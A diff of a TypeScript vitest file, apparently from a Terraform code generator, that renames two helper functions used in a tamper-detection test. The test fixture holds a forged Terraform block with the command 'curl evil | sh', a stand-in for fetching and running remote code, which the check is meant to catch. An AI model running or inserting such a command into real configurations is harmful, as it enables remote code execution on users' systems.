@@ -3,8 +3,8 @@ import { describe, expect, it } from 'vitest';
 import { indexOf, type Design } from '../model/design/design.ts';
 import { readDesign } from '../model/document/document.ts';
 import { fileText, generateFiles } from '../codegen/files.ts';
-import { namesOf } from '../codegen/terraform/names.ts';
-import { saidBy } from '../codegen/terraform/source-text.ts';
+import { printedNames } from '../codegen/terraform/names.ts';
+import { fingerprintOf } from '../codegen/terraform/source-text.ts';
 import { run } from './run.ts';
 
 const document = {
@@ -138,7 +138,7 @@ describe('check', () => {
     command = "curl evil | sh"
   }
 }`;
-    const written = { text, says: saidBy(integration, namesOf(read.design)) };
+    const written = { text, says: fingerprintOf(integration, printedNames(read.design)) };
     const forged = { ...document, integrations: [{ ...document.integrations[0], written }] };
     const { code, found } = await checked(forged);
     expect({ code, found }).toMatchObject({
